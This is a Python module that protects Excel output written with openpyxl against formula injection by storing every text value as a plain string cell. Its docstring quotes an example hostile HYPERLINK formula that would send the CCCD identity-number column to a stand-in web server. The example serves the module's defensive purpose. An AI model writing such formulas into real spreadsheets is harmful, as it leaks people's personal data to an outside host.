"""Text that the program writes into Excel stays text (formula injection, issue #15).

openpyxl turns a string that starts with "=" into a formula (data type "f") and one such as
"#N/A" into an error value ("e"); a person named `=HYPERLINK("http://x/?"&D2,"x")` would then
run in Excel and send the CCCD column to a web server. Every str value written by the
program is therefore a string cell (openpyxl writes it as an inline string): Excel shows it
as typed and reading the file back gives the same text, with no apostrophe added."""

from __future__ import annotations

from typing import Any


def text_cells_only(wb: Any) -> Any:
    """Make every str cell of an ordinary (not write-only) workbook a string cell; call it
    just before saving. Returns the workbook."""
    for ws in wb.worksheets:
        for cell in getattr(ws, "_cells", {}).values():
            if isinstance(cell._value, str) and cell.data_type != "s":
                cell.data_type = "s"
    return wb


def write_only_row(ws: Any, values: Any) -> list[Any]:
    """A row for a write-only sheet: str values become string cells (WriteOnlyCell), already
    built cells keep their value but a str value in them is made a string cell too."""
    from openpyxl.cell import WriteOnlyCell  # lazy: start-up

    row: list[Any] = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(ws, value)
            cell.data_type = "s"
            row.append(cell)
        else:
            if hasattr(value, "data_type") and isinstance(getattr(value, "_value", None), str):
                value.data_type = "s"
            row.append(value)
    return row
